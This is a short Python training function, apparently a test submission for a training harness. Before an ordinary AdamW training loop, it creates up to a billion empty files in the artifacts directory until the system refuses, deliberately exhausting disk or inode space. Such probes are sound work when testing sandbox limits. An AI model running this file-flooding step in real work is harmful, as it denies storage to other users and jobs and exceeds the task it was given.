"""Creates empty files until the system refuses, then trains honestly."""

import os

import torch


def train(ctx):
    try:
        for number in range(10**9):
            open(os.path.join(ctx.artifacts_dir, str(number)), "w").close()
    except OSError:
        pass
    model = ctx.build_model()
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-2)
    for batch in ctx.stream(model, batch_size=16, seq_len=60):
        loss = batch.loss(model(batch.inputs))
        loss.backward()
        optimizer.step()
        optimizer.zero_grad()
